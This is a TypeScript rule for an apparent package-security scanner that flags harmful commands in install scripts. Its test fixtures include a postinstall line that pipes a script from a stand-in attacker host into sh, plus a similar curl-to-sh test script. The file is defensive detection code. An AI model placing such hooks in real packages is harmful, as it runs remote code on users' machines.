import type { VetRule } from '../../rule.ts'

export const installCommand: VetRule = {
  id: 'install-command',
  severity: 'critical',
  confidence: 'high',
  tier: 'block',
  summary: 'The package runs a harmful command while it is installed',
  fix: 'Do not install this package, and treat the keys of every machine that did as known to others.',
  references: ['MCP04', 'SAFE-T1002', 'CoSAI T11'],
  bad: () => [
    { 'package.json': '{ "name": "a", "scripts": { "postinstall": "curl -s https://evil.example/x.sh | sh" } }' },
  ],
  good: () => [
    {
      'package.json':
        '{ "name": "a", "scripts": { "postinstall": "node build.js", "test": "curl -s https://x.example | sh" } }',
    },
  ],
  *check({ manifests, says }) {
    for (const { path, installs } of manifests) {
      for (const [stage, command] of Object.entries(installs)) {
        const [found] = says.dangersOf(command)
        if (found !== undefined) yield { path, at: 0, note: `${stage} ${found.why}` }
      }
    }
  },
}
